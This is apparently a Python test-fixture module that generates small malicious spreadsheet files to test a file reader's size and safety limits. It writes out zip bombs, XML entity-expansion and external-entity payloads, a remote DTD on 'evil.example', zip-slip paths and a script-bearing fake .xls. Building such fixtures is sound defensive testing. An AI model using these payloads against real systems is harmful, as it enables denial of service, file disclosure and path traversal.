"""Files made to exhaust, to reach out or to deceive a reader, each of them small: the limits are low instead."""

import os
from collections.abc import Callable
from pathlib import Path

from helpers.files.writing import zipped
from helpers.sheets.files.unreadable import Limits
from spreadsheets import ods

LOW = Limits(
    file_bytes=20_000,
    members=30,
    unpacked_bytes=60_000,
    ratio=20,
    ratio_matters_from=5_000,
    rows=50,
    columns=20,
    cells=300,
    cell_characters=500,
    characters=3_000,
)
HEAD = '<?xml version="1.0" encoding="UTF-8"?>'
MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
RELATED = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
ENTITIES = "<!DOCTYPE b [<!ENTITY a0 'ha'><!ENTITY a1 '&a0;&a0;'>]>"
EXTERNAL = "<!DOCTYPE b [<!ENTITY x SYSTEM 'file:///nowhere/x'>]>"
REMOTE = "<!DOCTYPE b [<!ENTITY % x SYSTEM 'http://evil.example/x.dtd'> %x;]>"


def xlsx(rows: str, doctype: str = "", shared: str = "", **more: str) -> bytes:
    """The smallest xlsx with these rows."""
    types = "http://schemas.openxmlformats.org/package/2006/content-types"
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    package = "http://schemas.openxmlformats.org/package/2006/relationships"
    ml = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    strings = (
        f'<Relationship Id="rId2" Type="{office}/sharedStrings" Target="sharedStrings.xml"/>'
        if shared
        else ""
    )
    parts = {
        "[Content_Types].xml": f'{HEAD}<Types xmlns="{types}"><Default Extension="xml" ContentType="application/xml"/>'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Override PartName="/xl/workbook.xml" ContentType="{ml}.sheet.main+xml"/>'
        f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{ml}.worksheet+xml"/></Types>',
        "_rels/.rels": f'{HEAD}<Relationships xmlns="{package}"><Relationship Id="rId1" Type="{office}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": f'{HEAD}{doctype}<workbook {MAIN} {RELATED}><sheets><sheet name="s" sheetId="1" r:id="rId1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": f'{HEAD}<Relationships xmlns="{package}"><Relationship Id="rId1" Type="{office}/worksheet" Target="worksheets/sheet1.xml"/>{strings}</Relationships>',
        "xl/worksheets/sheet1.xml": f"{HEAD}{doctype}<worksheet {MAIN}><sheetData>{rows}</sheetData></worksheet>",
        **({"xl/sharedStrings.xml": f"{HEAD}{doctype}<sst {MAIN}>{shared}</sst>"} if shared else {}),
        **more,
    }
    return zipped({name: part.encode() for name, part in parts.items()})


def inline(at: str, text: str) -> str:
    """A cell of inline text."""
    return f'<c r="{at}" t="inlineStr"><is><t>{text}</t></is></c>'


def number(at: str) -> str:
    """A row of one number."""
    return f'<row r="{at.strip("ABCDEFGHIJKLMNOPQRSTUVWXYZ")}"><c r="{at}"><v>1</v></c></row>'


def repeated(rows: int, columns: int) -> str:
    """A number, repeated downwards and across."""
    cell = (
        f'<table:table-cell table:number-columns-repeated="{columns}"><text:p>1</text:p></table:table-cell>'
    )
    return f'<table:table-row table:number-rows-repeated="{rows}">{cell}</table:table-row>'


def understated() -> bytes:
    """A zip whose directory says that one member is smaller than it is."""
    data = bytearray(xlsx(f'<row r="1">{inline("A1", "x" * 400)}</row>'))
    at = data.rindex(b"PK\x01\x02", 0, data.rindex(b"sheet1.xml"))
    data[at + 24 : at + 28] = (100).to_bytes(4, "little")
    return bytes(data)


FILES: dict[str, Callable[[], bytes]] = {
    "zip_of_much.xlsx": lambda: zipped({f"xl/{n}.xml": b" " * 4_900 for n in range(13)}),
    "zip_of_zeros.xlsx": lambda: zipped({"xl/workbook.xml": b"\0" * 50_000}),
    "zip_of_many.xlsx": lambda: zipped({f"xl/{n}.xml": b" " for n in range(31)}),
    "zip_in_a_zip.xlsx": lambda: zipped({"xl/inner.zip": zipped({"b": b"\0" * 50_000})}),
    "zip_that_lies_about_a_size.xlsx": understated,
    "entities.xlsx": lambda: xlsx(f'<row r="1">{inline("A1", "&a1;")}</row>', ENTITIES),
    "entities_in_strings.xlsx": lambda: xlsx('<row r="1"><c r="A1" t="s"><v>0</v></c></row>', ENTITIES, "<si><t>&a1;</t></si>"),
    "entities.ods": lambda: ods("<table:table-row/>", before=ENTITIES),
    "external_entity.xlsx": lambda: xlsx(f'<row r="1">{inline("A1", "&x;")}</row>', EXTERNAL),
    "external_entity.ods": lambda: ods("<table:table-row><table:table-cell><text:p>&x;</text:p></table:table-cell></table:table-row>", before=EXTERNAL),
    "remote_dtd.xlsx": lambda: xlsx("", REMOTE),
    "remote_dtd.ods": lambda: ods("", before=REMOTE),
    "many_bytes.csv": lambda: "番号,実施状況\n".encode() + b"1,x\n" * 5_000,
    "many_rows.csv": lambda: "番号,実施状況\n".encode() + b"1\n" * 50,
    "many_empty_rows.csv": lambda: b"\n" * 51,
    "many_columns.csv": lambda: b"a," * 20,
    "many_rows.ods": lambda: ods(repeated(51, 1), name="s"),
    "many_rows.xlsx": lambda: xlsx("".join(number(f"A{n}") for n in range(1, 52))),
    "cells_repeated.ods": lambda: ods(repeated(16, 19), name="s"),
    "many_columns.ods": lambda: ods(repeated(1, 21), name="s"),
    "cell_far_below.xlsx": lambda: xlsx(number("A1") + number("A51")),
    "cell_far_right.xlsx": lambda: xlsx(number("A1") + number("U2")),
    "long_cell.csv": lambda: "番号,実施状況\n1,".encode() + b"x" * 501 + b"\n",
    "long_cell_in_quotes.csv": lambda: '番号,実施状況\n1,"'.encode() + b"x\n" * 251 + b'"\n',
    "quote_never_closed.csv": lambda: '番号,実施状況\n1,"'.encode() + b"x," * 100,
    "long_cell.xlsx": lambda: xlsx(f'<row r="1">{inline("A1", os.urandom(251).hex())}</row>'),
    "text_shared_by_every_cell.xlsx": lambda: xlsx(
        "".join(f'<row r="{n}"><c r="A{n}" t="s"><v>0</v></c></row>' for n in range(1, 9)),
        shared=f"<si><t>{os.urandom(200).hex()}</t></si>",
    ),
    "rows_in_rows.ods": lambda: ods("<table:table-row>" * 100 + "</table:table-row>" * 100),
    "workbook_without_a_sheet.xlsx": lambda: xlsx("").replace(b"sheet1", b"sheet9"),
    "paths_that_lead_out.xlsx": lambda: zipped({"../../planted": b"x", f"{Path.cwd()}/planted": b"x", "xl/workbook.xml": b"<x/>"}),
    "half_a_file.xlsx": lambda: xlsx(f'<row r="1">{inline("A1", "x")}</row>')[:-200],
    "noise.xlsx": lambda: b"PK\x03\x04" + os.urandom(10_000),
    "noise.xls": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + os.urandom(10_000),
    "noise.csv": lambda: os.urandom(10_000),
    "page.xls": lambda: b"<html><script>alert(1)</script><table><tr><td>1</td></tr></table>",
}  # fmt: skip
